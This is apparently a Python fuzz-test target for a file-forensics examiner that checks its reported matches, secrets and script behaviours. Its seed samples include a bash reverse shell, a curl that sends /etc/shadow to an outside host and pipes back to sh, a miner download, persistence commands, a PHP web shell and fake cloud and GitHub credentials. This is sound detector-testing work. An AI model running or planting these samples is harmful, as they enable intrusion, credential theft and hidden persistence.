"""All examiners over one content: type, signatures, entropy, ELF and script facts, credentials."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from functools import cache

from forensics.examine import Examination, load_signatures
from forensics.limits import KIB, Limits
from fuzz._promises import check_shown
from fuzz._target import Target
from fuzz.targets import decoding, elf

_LIMITS = Limits(text_bytes=24 * KIB, scan_bytes=64 * KIB)


@cache
def _examination() -> Examination:
    return Examination(load_signatures(), _LIMITS)


def run(data: bytes) -> None:
    """The facts can be shown and written down, and every place in them lies within the content."""
    digest = hashlib.sha256(data).hexdigest()
    facts = _examination().examine(data, digest, frozenset({"md5"}))
    check_shown(facts)
    assert facts.size == len(data)
    assert facts.md5 == hashlib.md5(data).hexdigest()
    assert 0 <= facts.lost_bytes <= len(data)
    assert not any(issue.code in {"timeout", "not-scanned"} for issue in facts.issues), facts.issues
    places = [string for match in facts.matches for string in match.strings]
    places += [*facts.secrets, *(facts.script.behaviours if facts.script else ())]
    for place in places:
        assert 0 <= place.offset <= place.offset + place.length <= len(data), place


def seeds() -> Iterator[bytes]:
    """Scripts that do something, settings with credentials, an object."""
    yield from (b"#!/bin/sh\n" + each for each in decoding.seeds())
    yield next(iter(elf.seeds()))
    yield (
        b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\ncrontab -\nchmod u+s /tmp/x\n"
        b"curl -F f=@/etc/shadow http://203.0.113.9/ | sh\nexport HISTFILE=/dev/null\nnohup /tmp/.x &\n"
        b"chattr +i /etc/ld.so.preload\nwget -qO- stratum+tcp://pool.invalid:3333 | bash\n"
    )
    yield (
        b"AWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n"
        b"aws_secret_access_key = q7Rk2vZp9LmX4tWcq7Rk2vZp9LmX4tWcq7Rk2vZp\n"
        b"-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\npassword: hunter2hunter2\n"
        b"postgres://u:q7Rk2vZp9LmX@db/x\nghp_q7Rk2vZp9LmX4tWcq7Rk2vZp9LmX4tWcq7Rk\n"
    )
    yield b"<?php eval(base64_decode($_POST['x'])); ?>"


TARGET = Target(
    id="examination",
    run=run,
    seeds=seeds,
    harvest=("script", "settings", "elf", "zip"),
    words=(b"curl ", b" | sh", b"base64 -d", b"/dev/tcp/", b"AKIA", b"-----BEGIN ", b"password="),
    longest=24 * KIB,
)
